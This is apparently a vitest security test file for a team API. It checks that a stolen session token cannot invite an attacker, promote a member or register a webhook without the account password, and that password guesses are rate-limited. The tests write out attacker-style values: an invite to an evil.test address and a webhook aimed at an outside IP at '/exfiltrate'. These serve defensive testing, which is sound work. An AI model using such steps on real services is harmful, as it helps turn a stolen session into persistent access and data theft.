import { randomBytes } from "node:crypto";
import { describe, expect, it } from "vitest";
import { api, signup, useTestServer, type Account } from "../testing/harness.js";

const PASSWORD = "correct horse battery staple";

/**
 * The attacker holds a team owner's short-lived access token, not the password. Inviting their
 * own account into the team, promoting a member they control, or registering a URL that
 * receives every run's results all outlive that token and a sign-out, like an API key would; so
 * each takes the same re-authentication as minting a key, and an API key can do none of them.
 */
describe("attack: turning a stolen session into lasting team access", () => {
  const t = useTestServer(() => ({ workers: 0 }));

  /** `owner`'s team with `mate` joined as a member (set up with the password, as the owner would). */
  const teamWithMate = async () => {
    const owner = await signup(t.url);
    const address = `mate-${randomBytes(5).toString("hex")}@keen.test`;
    const invite = await api(t.url, `/v1/teams/${owner.teamId}/invites`, { headers: owner.headers, body: { email: address, role: "member", password: PASSWORD } });
    expect(invite.status).toBe(201);
    const mate = await signup(t.url, address, { verifyEmail: true });
    expect((await api(t.url, "/v1/invites/accept", { headers: mate.headers, body: { token: invite.body.token } })).status).toBe(200);
    return { owner, mate };
  };
  const acts = (owner: Account, mateId: string, extra: Record<string, unknown>) => [
    () => api(t.url, `/v1/teams/${owner.teamId}/invites`, { headers: owner.headers, body: { email: `attacker-${mateId}@evil.test`, role: "admin", ...extra } }),
    () => api(t.url, `/v1/teams/${owner.teamId}/members/${mateId}`, { method: "PUT", headers: owner.headers, body: { role: "admin", ...extra } }),
    () => api(t.url, "/v1/webhooks", { headers: owner.headers, body: { url: "https://93.184.215.14/exfiltrate", events: ["run.completed"], ...extra } }),
  ];
  const state = async (owner: Account) => ({
    invites: (await api(t.url, `/v1/teams/${owner.teamId}/invites`, { headers: owner.headers })).body.invites.length as number,
    roles: (await api(t.url, `/v1/teams/${owner.teamId}/members`, { headers: owner.headers })).body.members.map((m: { role: string }) => m.role).sort() as string[],
    webhooks: (await api(t.url, "/v1/webhooks", { headers: owner.headers })).body.webhooks.length as number,
  });

  it("refuses an invite, a promotion and a webhook to a bare session token with a coded 401 and a step-up challenge", async () => {
    const { owner, mate } = await teamWithMate();
    const before = await state(owner);
    expect(before).toEqual({ invites: 1, roles: ["member", "owner"], webhooks: 0 });
    for (const act of acts(owner, mate.userId, {})) {
      const res = await act();
      expect(res.status).toBe(401);
      expect(res.body.error).toMatchObject({ code: "reauthentication_required", details: { reason: "password_required" } });
      expect(res.headers.get("www-authenticate")).toBe('Bearer error="insufficient_user_authentication"');
    }
    expect(await state(owner)).toEqual(before);
  });

  it("answers a wrong password with 403 and counts it with the login limiter", async () => {
    const { owner, mate } = await teamWithMate();
    const before = await state(owner);
    const statuses: number[] = [];
    for (let i = 0; i < 8; i++) {
      const act = acts(owner, mate.userId, { password: `guess ${i}` })[i % 3]!;
      const res = await act();
      statuses.push(res.status);
      if (res.status === 403) expect(res.body.error.code).toBe("invalid_password");
    }
    expect(statuses.slice(0, 5)).toEqual([403, 403, 403, 403, 403]);
    expect(statuses.slice(5)).toContain(429);
    expect(await state(owner)).toEqual(before);
  });

  it("answers an account erasure without the password, or with a wrong one, the same way, and counts the guesses", async () => {
    const user = await signup(t.url);
    const erase = (body: Record<string, unknown>) => api(t.url, "/v1/me", { method: "DELETE", headers: user.headers, body });
    for (const body of [{}, { password: "" }]) {
      const missing = await erase(body);
      expect(missing.status).toBe(401);
      expect(missing.body.error).toMatchObject({ code: "reauthentication_required", details: { reason: "password_required" } });
      expect(missing.headers.get("www-authenticate")).toBe('Bearer error="insufficient_user_authentication"');
    }
    const statuses: number[] = [];
    for (let i = 0; i < 6; i++) {
      const res = await erase({ password: `guess ${i}` });
      statuses.push(res.status);
      if (res.status === 403) expect(res.body.error.code).toBe("invalid_password");
    }
    expect(statuses).toEqual([403, 403, 403, 403, 403, 429]);
    // Locked out: the right password waits too, and the account is still there.
    expect((await erase({ password: PASSWORD })).status).toBe(429);
    expect((await api(t.url, "/v1/me", { headers: user.headers })).status).toBe(200);
  });

  it("lets the owner who gives the password invite, promote and register a webhook", async () => {
    const { owner, mate } = await teamWithMate();
    const [invite, promote, webhook] = acts(owner, mate.userId, { password: PASSWORD });
    expect((await invite!()).status).toBe(201);
    expect((await promote!()).body).toMatchObject({ userId: mate.userId, role: "admin" });
    expect((await webhook!()).status).toBe(201);
    expect(await state(owner)).toEqual({ invites: 2, roles: ["admin", "owner"], webhooks: 1 });
    // The password is a proof, never stored with what it allowed.
    expect(JSON.stringify((await api(t.url, "/v1/webhooks", { headers: owner.headers })).body)).not.toContain(PASSWORD);
  });

  it("never lets an API key invite, change a role or register a webhook, whatever its scopes, password or not", async () => {
    const { owner, mate } = await teamWithMate();
    const minted = await api(t.url, "/v1/auth/api-keys", {
      headers: owner.headers,
      body: { name: "automation", scopes: ["sessions:read", "sessions:write", "team:read", "team:manage"], password: PASSWORD },
    });
    expect(minted.status).toBe(201);
    const before = await state(owner);
    for (const headers of [{ "x-api-key": minted.body.key as string }, { authorization: `Bearer ${minted.body.key}` }] as Array<Record<string, string>>) {
      // The key itself works for what it is for.
      expect((await api(t.url, `/v1/teams/${owner.teamId}/members`, { headers })).status).toBe(200);
      for (const extra of [{}, { password: PASSWORD }]) {
        for (const act of acts({ ...owner, headers }, mate.userId, extra)) {
          const res = await act();
          expect(res.status).toBe(403);
          expect(res.body.error.code).toBe("forbidden");
        }
      }
    }
    expect(await state(owner)).toEqual(before);
  });
});
